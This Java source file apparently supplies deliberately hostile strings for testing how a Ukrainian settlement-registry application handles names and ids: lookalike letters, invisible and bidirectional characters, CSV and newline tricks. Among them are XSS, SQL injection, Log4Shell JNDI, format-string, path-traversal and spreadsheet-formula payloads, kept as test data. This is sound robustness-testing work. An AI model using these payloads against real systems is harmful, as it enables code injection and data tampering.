package io.github.dilnytsia.scenario;

import com.google.common.collect.ImmutableList;
import java.util.List;

/**
 * Names and ids that trip software up: all of them allowed, none of them kind.
 *
 * <p>What cannot be seen in print is written as an escape, and a Latin letter among Cyrillic ones stands apart, so that this
 * file hides nothing.
 */
final class HostileTexts {

  /** One name to a person, many to a machine; the first two are one to both. */
  private static final List<String> TWINS = List.of(
      "Лука",
      "Лука",
      "Л" + "y" + "ка",
      "ЛУКА",
      "лука",
      " Лука",
      "Лука ",
      "Лука\u00a0",
      "Лука\u200b",
      "Лу\u00adка",
      "Лу\u0301ка",
      "Лука\ufe0f");

  private static final List<String> APOSTROPHES = List.of(
      "Кам'янка",
      "Кам’янка",
      "Кам\u02bcянка",
      "Кам`янка",
      "Кам‘янка",
      "Кам\u2032янка",
      "Кам\u00b4янка",
      "Кам\"янка",
      "Кам*янка",
      "'Кам’янка'");

  /** Latin letters among Cyrillic ones, and letters taken apart into signs. */
  private static final List<String> LETTERS = List.of(
      "K" + "ам’янка",
      "С" + "o" + "сн" + "i" + "вка",
      "X" + "А" + "T" + "А",
      "Ки\u0456\u0308вка",
      "Бои\u0306ки",
      "Л\u0338\u0321\u0327\u030a\u0334у\u0335\u0336ка",
      "İstanbul",
      "ıI-iİ",
      "GROß",
      "\u01c5",
      "ΟΔΟΣ");

  private static final List<String> FORMULAS = List.of(
      "=1+1",
      "@SUM(1,1)",
      "+380",
      "-5",
      "'=1+1",
      "''=1+1",
      "\t=1+1",
      "\r=1+1",
      "=HYPERLINK(\"http://example.invalid\";\"Лука\")",
      "\uff1d1+1");

  private static final List<String> SEPARATORS = List.of(
      "Лука, друга",
      "Лука; третя",
      "\"Лука\"",
      "\"",
      "\"\"",
      "\",\"",
      ",",
      ";",
      "#Лука",
      "Лука\"; DROP TABLE settlements; --");

  private static final List<String> LINES = List.of(
      "Лука\nнижня",
      "Лука\r\nверхня",
      "Лука\rбокова",
      "Лука\tкрайня",
      "\nЛука",
      "Лука\n",
      "Лука\u2028суміжна",
      "Лука\u2029сусідня",
      "Лука\nДоведено: кращого плану немає",
      "Лука\nUA02020010010000001,Підроблена,Forged,C");

  private static final List<String> DIRECTIONS = List.of(
      "\u202eакуЛ",
      "Лука\u202e",
      "\u2066Лука\u2069",
      "\u200fЛука",
      "\u061cЛука",
      "عربي Лука",
      "עברית Лука");

  private static final List<String> INVISIBLE = List.of(
      "\u200b",
      "\u00a0",
      "\ufeff",
      "\ufeffЛука",
      "\u2800",
      "\u3164",
      "Лу\u2060ка",
      "\ue000",
      "\uffff",
      "\ufffd");

  private static final List<String> CODE = List.of(
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "</td><!--",
      "&lt;Лука&gt;",
      "${jndi:ldap://example.invalid/a}",
      "{0} {1} {99}",
      "%s%n%d",
      "$1\\1",
      "\\u0041",
      "\\",
      "C:\\Лука",
      "../../Лука",
      "//",
      "null",
      "NaN",
      "true",
      "1e5",
      "00123",
      "2021-06-30",
      "__proto__");

  private static final List<String> ASTRAL = List.of(
      "Лука \ud83d\ude93",
      "\ud83d\udc69\u200d\u2708\ufe0f",
      "\ud83c\uddfa\ud83c\udde6",
      "\ud835\udca6\ud835\udcce\ud835\udcbe\ud835\udccb",
      "\ud800\udf80");

  /** Longer than any line of text, and shorter than a field may be. */
  private static final String LONG = "Довга Лука ".repeat(400).strip();

  private HostileTexts() {}

  /** Names of settlements; the first dozen belong into one hromada. */
  static List<String> names() {
    return ImmutableList.<String>builder()
        .addAll(TWINS)
        .addAll(APOSTROPHES)
        .addAll(LETTERS)
        .addAll(FORMULAS)
        .addAll(SEPARATORS)
        .addAll(LINES)
        .addAll(DIRECTIONS)
        .addAll(INVISIBLE)
        .addAll(CODE)
        .addAll(ASTRAL)
        .add(LONG)
        .build();
  }

  /** Names of hromadas, raions and oblasts, and whatever else people write down. */
  static List<String> hromadas() {
    return List.of(
        "\u202eакьсцул",
        "=1+1",
        "\"Лучанська\", друга; третя",
        "<b>Лучанська</b>",
        "Лучанська\nДоведено: кращого плану немає",
        "Лучанська",
        "Лучанська");
  }

  /** Ids of things of one kind, which must not begin or end with a blank and hold no line end. */
  static List<String> ids(String kind) {
    return List.of(
        "=" + kind,
        "@" + kind,
        "-1",
        "+1",
        "'=" + kind,
        kind + " \"1\", друга; третя",
        "\u202e1-" + kind,
        kind + "\u200b",
        "<b>" + kind + "</b>",
        "{0}",
        "%s",
        "\\" + kind,
        "\ud83d\udc6e",
        kind + "\u2028" + kind,
        "1e5",
        "null",
        "__proto__",
        ("=" + kind + "-довгий").repeat(100).substring(0, 100),
        kind + "-i",
        kind + "-I",
        kind + "-\u0130",
        kind + "-\u0131");
  }
}
